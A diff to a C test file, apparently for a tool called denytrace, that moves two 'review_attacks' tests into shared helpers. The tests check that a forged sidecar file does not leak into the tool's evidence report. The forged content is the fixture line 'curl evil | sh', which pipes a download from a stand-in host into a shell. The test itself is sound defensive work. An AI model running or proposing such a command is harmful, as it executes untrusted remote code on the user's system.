@@ -176,6 +176,36 @@ Test(review_attacks, a_worker_s_user_named_null_or_font_leaves_the_redacted_bund
 	cr_expect_eq(dtt_system(out, sizeof(out), lint, NULL), 0, "xmllint: %s", out);
 }
 
+/* What a worker that can write beside its ring plants: RING.fix.md with
+ * the ring's own first line and forged advice after it. */
+static const char forged_advice[] = "\n## Suggested fix\n\nforged-advice: curl evil | sh\n";
+
+static void plant_fix_md(const char *ring, const char *id)
+{
+	char side[PATH_MAX + 16];
+	snprintf(side, sizeof(side), "%s.fix.md", ring);
+	FILE *f = fopen(side, "w");
+	cr_assert_not_null(f);
+	fprintf(f, "<!-- denytrace sidecar of ring %s -->\n%s", id, forged_advice);
+	fclose(f);
+}
+
+/* denytrace evidence of ring into top/b: its report.md has no forged advice. */
+static void expect_evidence_without_forged_advice(const char *top, const char *ring)
+{
+	char bundle[PATH_MAX + 8], report[PATH_MAX + 16];
+	snprintf(bundle, sizeof(bundle), "%s/b", top);
+	const char *ev[] = {dtt_denytrace(), "evidence", "--out", bundle, ring, NULL};
+	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
+	snprintf(report, sizeof(report), "%s/report.md", bundle);
+	FILE *f = fopen(report, "r");
+	cr_assert_not_null(f);
+	static char md[1 << 17];
+	md[fread(md, 1, sizeof(md) - 1, f)] = 0;
+	fclose(f);
+	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md");
+}
+
 /* The ring's identity (device, inode, creation time) is readable by the
  * worker that maps it, and the ring's directory is writable by it: a
  * RING.fix.md with the right first line is still not denytrace's. */
@@ -184,7 +214,7 @@ Test(review_attacks, evidence_ignores_a_ring_fix_md_forged_with_the_ring_s_own_i
 	if (!dtt_have_bwrap())
 		cr_skip_test("bubblewrap cannot create a sandbox here");
 	const char *top = dtt_tmpdir();
-	char state[PATH_MAX + 16], id[128], side[PATH_MAX + 16], bundle[PATH_MAX + 8];
+	char state[PATH_MAX + 16], id[128];
 	snprintf(state, sizeof(state), "%s/state", top);
 	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
 	const char *argv[DTT_BWRAP_RW_WORDS + 4];
@@ -195,23 +225,8 @@ Test(review_attacks, evidence_ignores_a_ring_fix_md_forged_with_the_ring_s_own_i
 	struct dtt_run r;
 	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
 	cr_assert_eq(dt_ring_id_of(r.ring, id, sizeof(id)), 0);
-	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
-	FILE *f = fopen(side, "w");
-	cr_assert_not_null(f);
-	fprintf(f, "<!-- denytrace sidecar of ring %s -->\n", id);
-	fputs("\n## Suggested fix\n\nforged-advice: curl evil | sh\n", f);
-	fclose(f);
-	snprintf(bundle, sizeof(bundle), "%s/b", top);
-	const char *ev[] = {dtt_denytrace(), "evidence", "--out", bundle, r.ring, NULL};
-	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
-	char report[PATH_MAX + 16];
-	snprintf(report, sizeof(report), "%s/report.md", bundle);
-	f = fopen(report, "r");
-	cr_assert_not_null(f);
-	static char md[1 << 17];
-	md[fread(md, 1, sizeof(md) - 1, f)] = 0;
-	fclose(f);
-	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md");
+	plant_fix_md(r.ring, id);
+	expect_evidence_without_forged_advice(top, r.ring);
 	dtt_free(&r);
 }
 
@@ -224,45 +239,30 @@ Test(review_attacks, evidence_ignores_a_ring_fix_md_forged_with_the_ring_s_own_i
 Test(review_attacks, evidence_ignores_a_fix_md_whose_digest_the_unsandboxed_worker_could_write)
 {
 	const char *top = dtt_tmpdir();
-	char state[PATH_MAX + 16], id[128], side[PATH_MAX + 16], bundle[PATH_MAX + 8];
+	char state[PATH_MAX + 16], id[128];
 	snprintf(state, sizeof(state), "%s/state", top);
 	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
 	const char *argv[] = {"/bin/sh", "-c", "exit 0", NULL};
 	struct dtt_run r;
 	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
 	cr_assert_eq(dt_ring_id_of(r.ring, id, sizeof(id)), 0);
-	const char *forged = "\n## Suggested fix\n\nforged-advice: curl evil | sh\n";
-	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
-	FILE *f = fopen(side, "w");
-	cr_assert_not_null(f);
-	fprintf(f, "<!-- denytrace sidecar of ring %s -->\n%s", id, forged);
-	fclose(f);
+	plant_fix_md(r.ring, id);
 	char key[256], name[65], hex[65], digest[PATH_MAX + 128];
 	snprintf(key, sizeof(key), "%s.fix.md", id);
 	dt_sha256_hex(key, strlen(key), name);
-	dt_sha256_hex(forged, strlen(forged), hex);
+	dt_sha256_hex(forged_advice, strlen(forged_advice), hex);
 	snprintf(digest, sizeof(digest), "%s/denytrace", state);
 	mkdir(state, 0700);
 	mkdir(digest, 0700);
 	snprintf(digest, sizeof(digest), "%s/denytrace/sidecars", state);
 	mkdir(digest, 0700);
 	snprintf(digest, sizeof(digest), "%s/denytrace/sidecars/%s", state, name);
-	f = fopen(digest, "w");
+	FILE *f = fopen(digest, "w");
 	cr_assert_not_null(f);
 	fprintf(f, "%s\n", hex);
 	fclose(f);
 	chmod(digest, 0600);
-	snprintf(bundle, sizeof(bundle), "%s/b", top);
-	const char *ev[] = {dtt_denytrace(), "evidence", "--out", bundle, r.ring, NULL};
-	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
-	char report[PATH_MAX + 16];
-	snprintf(report, sizeof(report), "%s/report.md", bundle);
-	f = fopen(report, "r");
-	cr_assert_not_null(f);
-	static char md[1 << 17];
-	md[fread(md, 1, sizeof(md) - 1, f)] = 0;
-	fclose(f);
-	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md");
+	expect_evidence_without_forged_advice(top, r.ring);
 	dtt_free(&r);
 }
 
